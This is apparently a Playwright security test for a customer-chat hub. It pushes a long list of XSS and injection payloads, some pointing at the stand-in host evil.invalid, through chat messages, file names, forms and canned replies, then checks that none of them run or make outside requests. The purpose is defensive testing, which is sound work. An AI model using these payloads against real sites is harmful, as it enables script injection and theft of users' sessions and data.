"""Attack case I03: hostile words, names, forms, file names, bot answers, canned replies stay words everywhere.

What would give a fault away: a script that runs, a request to anywhere else, a violation of the page's own policy (then
only the policy would have held), an element that the words made.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import aiohttp
import pytest_asyncio
from playwright.async_api import Browser, Frame, Page, expect

from bot.contract import BotStatus, Button, Handoff, HandoffReason, Reply, Say, Turn
from hub.model.ids import InboxId, new_id
from hub.store.database import connect
from hub.store.embedded import Mongod
from tests.browser.fixtures import BROWSER
from tests.browser.people import Agent
from tests.browser.stack import prepare
from tests.hub_server import AbsentBot, LiveHub, live_hub

pytestmark = BROWSER
EVIL = "https://evil.invalid/x"
PAYLOADS = (
    "<script>pwned()</script>",
    "<ScRiPt/x>pwned()</sCrIpT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    f"<script src={EVIL}></script>",
    "</script><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "<!--><script>pwned()</script>-->",
    "]]><script>pwned()</script>",
    "'\"><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    f"<img src={EVIL}>",
    f"<img srcset='{EVIL} 1x'>",
    "<img src=`x`onerror=pwned()>",
    "<img/src=x/onerror=pwned()//",
    "<image href=x onerror=pwned()>",
    "\"'><img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    f"<svg><image href='{EVIL}'/></svg>",
    f"<svg><use href='{EVIL}#x'/></svg>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned()></style></mglyph></math>",
    "<math href=javascript:pwned()>x</math>",
    "<math><mi//xlink:href='data:x,<script>pwned()</script>'>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<table><td><svg><desc><td><img src=x onerror=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    f"<iframe src={EVIL}></iframe>",
    "<object data=javascript:pwned()></object>",
    f"<embed src={EVIL}>",
    "<a href=javascript:pwned()>click</a>",
    "<a href=' &#x6A;avascript:pwned()'>click</a>",
    "javascript:pwned()",
    "JaVaScRiPt\t:pwned()",
    "java\nscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:pwned()",
    "[x](javascript:pwned())",
    f"![x]({EVIL})",
    f"<style>@import '{EVIL}';</style>",
    f"<style>*{{background:url({EVIL})}}</style>",
    f"<div style='background:url({EVIL})'>x</div>",
    "<div style='width:expression(pwned())'>x</div>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>",
    "<base href=https://evil.invalid/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><input name=a><button autofocus onfocus=pwned()></form>",
    "<form id=app><input name=innerHTML></form>",
    "<input id=composer name=body autofocus onfocus=pwned()>",
    "<a id=peyk-config name=textContent href=x>",
    "<details open ontoggle=pwned()>x</details>",
    "<video autoplay><source onerror=pwned()></video>",
    f"<audio src={EVIL} autoplay onerror=pwned()>",
    f"<video poster={EVIL}></video>",
    "<body onload=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<x contenteditable onblur=pwned() tabindex=1 id=x autofocus>",
    "<template><script>pwned()</script></template>",
    "<slot onslotchange=pwned()>",
    "<portal src=javascript:pwned()>",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "#{pwned()}",
    "<%= pwned() %>",
    "\u202e<script>)(denwp</script>",
    "\u2066\u202egnp.exe\u2069.png",
    "\ufeff<script>pwned()</script>",
    "＜script＞pwned()＜/script＞",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "%3Cscript%3Epwned()%3C/script%3E",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
    'https://evil.invalid/"onmouseover=pwned()//',
    "https://evil.invalid/<img src=x onerror=pwned()>",
    "https://user:pass@evil.invalid/%0d%0aSet-Cookie:x=1",
    "__proto__",
    "constructor",
    "[object Object]",
    '{"type":"entry","author":"agent","text":"<script>pwned()</script>"}',
)
NAMES = [one for one in PAYLOADS if len(one) < 60][:8]
FILE_NAMES = [one.replace("/", "∕") for one in PAYLOADS if "\n" not in one and "\t" not in one][:12]
WATCH = """
window.peykViolations = [];
document.addEventListener("securitypolicyviolation", it =>
  window.peykViolations.push(it.violatedDirective + " " + it.blockedURI));
"""
TELLTALE = "script,iframe,object,embed,base,meta,link,style,math,video,audio,template,marquee,[onerror],[onload]"
MADE = """([boxes, telltale]) => [...document.querySelectorAll(boxes)].flatMap(box =>
  [...box.querySelectorAll(telltale)].map(it => it.outerHTML.slice(0, 120)))"""


class Echo(AbsentBot):
    """A bot that says whatever it is told, also on its buttons; it hands over when asked for a person."""

    async def turn(self, turn: Turn) -> Reply:
        says = tuple(
            Say(text=text, buttons=(Button(title=text[:80], payload="/x"),))
            for text in turn.texts or ("?",)
            if text != "person"
        )
        asked = Handoff(reason=HandoffReason.REQUESTED, summary=PAYLOADS[12]) if "person" in turn.texts else None
        return Reply(says=says, handoff=asked)

    async def ready(self) -> BotStatus:
        return BotStatus(available=True, detail="ok")


@pytest_asyncio.fixture(loop_scope="session")
async def echoing(mongod_server: Mongod, tmp_path: Path) -> AsyncIterator[LiveHub]:
    """A whole hub with the echoing bot."""
    await asyncio.to_thread(prepare)
    name = "t" + "".join(letter for letter in new_id().lower() if letter.isalnum())
    async with connect(mongod_server.uri, name) as database:
        async with live_hub(database, tmp_path / "var", bot=Echo()) as running:
            config = running.hub.web.config
            inbox = config.inboxes[InboxId("shop")]
            # So many messages in a minute are what the product's own limit is for.
            await config.save(replace(inbox, settings={**inbox.settings, "messages_per_minute": 0}))
            yield running
        await database.drop()


async def trapped(page: Page, hub: str) -> list[str]:
    """Set the traps; what they catch comes into the list."""
    caught: list[str] = []
    await page.expose_function("pwned", lambda: caught.append("a script ran"))
    await page.add_init_script(WATCH)
    page.on("dialog", lambda dialog: caught.append("a dialog: " + dialog.message))
    page.on("pageerror", lambda error: caught.append(f"an error: {error}"))
    own = (hub, hub.replace("http", "ws", 1), "data:", "blob:")
    page.on("request", lambda it: None if it.url.startswith(own) else caught.append("a request: " + it.url))
    return caught


async def nothing_happened(place: Page | Frame, caught: list[str], words: str) -> None:
    """No trap was sprung and the words made no element."""
    assert caught == []
    assert await place.evaluate("window.peykViolations") == []
    assert await place.evaluate(MADE, [words, TELLTALE]) == []


async def test_i03_hostile_words_stay_words_everywhere(echoing: LiveHub, browser: Browser) -> None:
    assert len(PAYLOADS) >= 60
    await _names_and_canned(echoing)
    context = await browser.new_context(reduced_motion="reduce")
    try:
        chat, desk = await context.new_page(), await context.new_page()
        caught = [*[await trapped(page, echoing.url) for page in (chat, desk)]]
        await chat.goto(f"{echoing.url}/chat/shop/app?locale=fa")
        for payload in PAYLOADS:
            await chat.locator("#composer").fill(payload)
            await chat.keyboard.press("Enter")
            await expect(chat.locator("#composer")).to_have_value("")
        for name in FILE_NAMES:
            file = {"name": name + ".txt", "mimeType": "text/plain", "buffer": b"nothing"}
            await chat.locator("input[type=file]").set_input_files(file)  # type: ignore[arg-type]
            await chat.locator(".composer button[type=submit]").click()
        await chat.locator("#composer").fill("person")
        await chat.keyboard.press("Enter")
        await expect(chat.locator("form.form")).to_be_visible(timeout=120_000)
        await expect(chat.locator(".row.sending")).to_have_count(0)
        for payload in (PAYLOADS[0], PAYLOADS[12], PAYLOADS[-1]):
            await expect(chat.locator(".row.mine .bubble", has_text=payload).first).to_be_visible()
        await chat.locator("#form-name").fill(PAYLOADS[12])
        await chat.locator("#form-email").fill("<svg/onload=pwned()>@example.com")
        await chat.locator("#form-message").fill("\n".join(PAYLOADS[:20]))
        await chat.locator("form.form button[type=submit]").click()
        await chat.mouse.wheel(0, -30_000)
        await nothing_happened(chat, caught[0], ".log")

        await _at_the_desk(echoing, desk)
        await nothing_happened(desk, caught[1], ".timeline, .list, .card")
        await chat.reload()
        await expect(chat.locator(".row.theirs").last).to_be_visible()
        await nothing_happened(chat, caught[0], ".log")
    finally:
        await context.close()


async def _at_the_desk(hub: LiveHub, page: Page) -> None:
    """Look at everything that a customer can have a hand in."""
    agent = Agent(page, hub.url, "ali")
    await agent.sign_in(hub.passwords["ali"])
    await expect(page.locator(".face-button")).to_be_visible()
    await agent.online()
    await agent.accept()
    for _ in range(12):  # through the whole conversation, page by page
        await page.locator(".timeline").hover()
        await page.mouse.wheel(0, -20_000)
        if await page.locator(".timeline .older", has_text="آغاز").count():
            break
    await agent.composer.fill("/hostile")
    await expect(page.locator(".complete-item").first).to_be_visible()
    await agent.key("Enter")
    await agent.key("Control+Enter")
    await agent.away_from_fields()
    await agent.key("g")
    await agent.key("q")
    await expect(agent.rows.first).to_be_visible()
    for number in range(min(4, await agent.rows.count())):
        await agent.rows.nth(number).click()
        await expect(page.locator(".pane-title")).to_be_visible()
    await agent.key("t") if await page.locator(".pane-owner.is-mine").count() else None
    await agent.key("Control+k")
    await expect(agent.dialog).to_be_visible()


async def _names_and_canned(hub: LiveHub) -> None:
    """Customers with hostile names wait in line; a hostile canned reply."""
    async with hub.browser() as admin:
        await admin.sign_in("admin")
        canned = {"shortcut": "hostile", "locale": "fa", "text": "\n".join(PAYLOADS[:30])[:3900]}
        assert (await admin.call("POST", "/api/admin/canned", canned)).status < 300
    for name in NAMES:
        async with hub.browser() as visitor:
            session = (await visitor.call("POST", "/chat/shop/session", {})).json
            headers = {"Origin": hub.url}
            async with visitor.session.ws_connect(f"{hub.url}/chat/shop/socket", headers=headers) as ws:
                await ws.send_json(
                    {"type": "hello", "token": session["access"], "page": EVIL + "?<script>pwned()</script>"}
                )
                await _say(ws, 1, text="person")
                values = {"name": name, "email": "a@example.com", "message": name}
                await _say(ws, 2, form="offline", values=values)


async def _say(ws: aiohttp.ClientWebSocketResponse, number: int, **message: object) -> None:
    await ws.send_str(json.dumps({"type": "send", "id": number, "client_id": new_id(), **message}))
    while True:
        frame = await ws.receive_json(timeout=15)
        if frame.get("id") == number:
            assert frame["type"] == "result", frame
            return
